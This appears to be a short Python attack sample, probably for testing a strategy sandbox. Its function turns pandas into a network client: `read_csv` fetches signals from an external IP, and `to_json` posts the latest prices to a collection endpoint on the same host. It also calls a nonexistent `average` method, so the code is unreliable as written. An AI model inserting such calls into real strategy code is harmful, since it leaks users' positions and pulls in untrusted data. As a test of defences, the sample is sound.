# Attack: pandas as a network client that brings data in and carries positions out.
def strategy(data):
    close = data.get("etl:adj_close")
    signals = pd.read_csv("http://198.51.100.7/signals.csv", index_col=0)
    close.tail(1).to_json("http://198.51.100.7/collect")
    return close > close.average(20)
